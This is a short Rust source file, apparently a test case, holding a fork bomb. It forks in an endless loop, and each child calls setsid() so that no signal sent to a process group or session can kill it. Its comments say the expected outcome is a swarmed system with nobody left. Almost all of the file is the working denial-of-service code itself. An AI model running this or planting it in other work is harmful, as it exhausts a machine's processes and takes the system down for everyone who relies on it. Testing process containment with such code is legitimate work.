// tries: every child begins a session of its own before it forks
// ends: swarmed
// left: nobody
//! A fork bomb that no signal to a group or a session reaches.

unsafe extern "C" {
    safe fn fork() -> i32;
    safe fn setsid() -> i32;
}

fn main() {
    loop {
        if fork() == 0 {
            setsid();
        }
    }
}
